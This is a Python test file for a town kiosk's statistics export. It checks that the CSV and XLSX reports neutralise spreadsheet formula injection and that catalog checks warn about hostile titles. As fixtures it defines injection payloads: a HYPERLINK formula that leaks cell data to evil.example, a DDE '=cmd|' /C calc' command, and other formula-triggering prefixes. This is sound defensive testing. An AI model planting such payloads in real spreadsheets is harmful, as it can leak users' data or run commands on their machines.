"""Formula injection: hostile catalog titles reach the CSV and XLSX as inert text.

A town's catalog (or anyone editing it) can name an event ``=HYPERLINK(…)`` or
``=cmd|' /C calc'!A0``. The exports must never hand a spreadsheet a live formula: the CSV
prefixes such cells with ``'``, the XLSX stores them as strings (no ``<f>`` element), and
``kiosk catalog check`` warns about the titles.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from forms.catalog import BUNDLED_FOLDER
from kiosk.cli.main import main
from kiosk.statistics.demo_data import insert_demo
from kiosk.statistics.export_safety import is_formula_like, neutralise_csv_cell
from kiosk.storage import migrate
from kiosk.storage.db import make_engine

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"転入")'
DDE = "=cmd|' /C calc'!A0"
AT = "@SUM(1+1)"
PLUS = "+81-3-0000"
MINUS = "-2+3"
TAB = "\t=1+1"
HOSTILE = (HYPERLINK, DDE, AT, PLUS, MINUS, TAB)
FROM, TO = "2026-11-01", "2026-11-20"


def _yaml_string(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'


def hostile_catalog(tmp_path: Path) -> Path:
    folder = tmp_path / "hostile-catalog"
    shutil.copytree(BUNDLED_FOLDER, folder, ignore=shutil.ignore_patterns("*.py", "__pycache__"))
    events = folder / "events.yaml"
    text = events.read_text(encoding="utf-8")
    text = text.replace("    title: {ja: 転入, en: Moving in}",
                        f"    title: {{ja: {_yaml_string(HYPERLINK)}, en: Moving in}}", 1)
    text = text.replace("    title: {ja: 転出, en: Moving out}",
                        f"    title: {{ja: {_yaml_string(DDE)}, en: Moving out}}", 1)
    events.write_text(text, encoding="utf-8")
    departments = folder / "departments.yaml"
    text = departments.read_text(encoding="utf-8")
    for old, new in (("町民課 住民係", AT), ("町民課 保険年金係", PLUS),
                     ("福祉課 介護保険係", MINUS)):
        assert old in text
        text = text.replace(f"name: {{ja: {old},", f"name: {{ja: {_yaml_string(new)},", 1)
    departments.write_text(text, encoding="utf-8")
    return folder


@pytest.fixture
def hostile_setup(isolated_dirs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    isolated_dirs.mkdir(parents=True, exist_ok=True)
    url = f"sqlite:///{(isolated_dirs / 'central.sqlite3').as_posix()}"
    engine = make_engine(url)
    migrate.upgrade(engine)
    insert_demo(engine, 400, 20, end=date(2026, 11, 20), seed=3)
    engine.dispose()
    monkeypatch.setenv("KIOSK_DATABASE_URL", url)
    config = tmp_path / "kiosk.toml"
    config.write_text(f'[catalog]\nfolder = "{hostile_catalog(tmp_path).as_posix()}"\n',
                      encoding="utf-8")
    return config


def test_the_rule_covers_owasp_starts_and_leaves_numbers_alone() -> None:
    for text in (*HOSTILE, "\r=1", "=", "-"):
        assert is_formula_like(text)
        assert neutralise_csv_cell(text) == "'" + text
    for value in ("転入", "a=1", " =1", "", -3, -2.5, None):
        assert not is_formula_like(value)
        assert neutralise_csv_cell(value) == value


def test_csv_cells_are_prefixed_and_figures_stay_numbers(
    hostile_setup: Path, tmp_path: Path
) -> None:
    out = tmp_path / "report.csv"
    assert main(["--config", str(hostile_setup), "stats", "export", "--from", FROM, "--to", TO,
                 "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if is_formula_like(cell)]
    for text in (HYPERLINK, DDE, AT, PLUS, MINUS):
        assert "'" + text in cells, text
    assert all(float(row[2]) >= 0 for row in rows[1:] if row[2])  # counts untouched


def test_xlsx_holds_no_formula_and_shows_the_titles_as_text(
    hostile_setup: Path, tmp_path: Path
) -> None:
    out = tmp_path / "report.xlsx"
    assert main(["--config", str(hostile_setup), "stats", "export", "--from", FROM, "--to", TO,
                 "--format", "xlsx", "--out", str(out)]) == 0
    with zipfile.ZipFile(out) as archive:
        sheets = [n for n in archive.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        xml = "".join(archive.read(name).decode("utf-8") for name in sheets)
        styles = archive.read("xl/styles.xml").decode("utf-8")
    assert len(sheets) > 3
    assert not re.search(r"<f[ >]", xml), "a live formula reached the workbook"
    assert 'quotePrefix="1"' in styles
    book = load_workbook(out)
    text_cells = {cell.value: cell for sheet in book for row in sheet.iter_rows() for cell in row
                  if isinstance(cell.value, str)}
    for text in (HYPERLINK, DDE, AT, PLUS, MINUS):
        cell = text_cells[text]
        assert cell.data_type == "s" and cell.quotePrefix, text


def test_catalog_check_warns_about_formula_like_titles(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["catalog", "check", "--folder", str(hostile_catalog(tmp_path))]) == 0
    captured = capsys.readouterr()
    warnings = [line for line in captured.err.splitlines() if line.startswith("kiosk: warning:")]
    assert any("event IN title (ja) starts with '='" in line for line in warnings)
    assert any("event OUT title (ja)" in line for line in warnings)
    assert any("department JUMIN name (ja) starts with '@'" in line for line in warnings)
    # only the Japanese was made hostile: every other locale has its own title
    # (やさしい日本語 and the drafted languages translate these titles)
    assert len(warnings) == 5
    assert captured.out.startswith("catalog OK")
    assert main(["catalog", "check"]) == 0
    assert "warning" not in capsys.readouterr().err
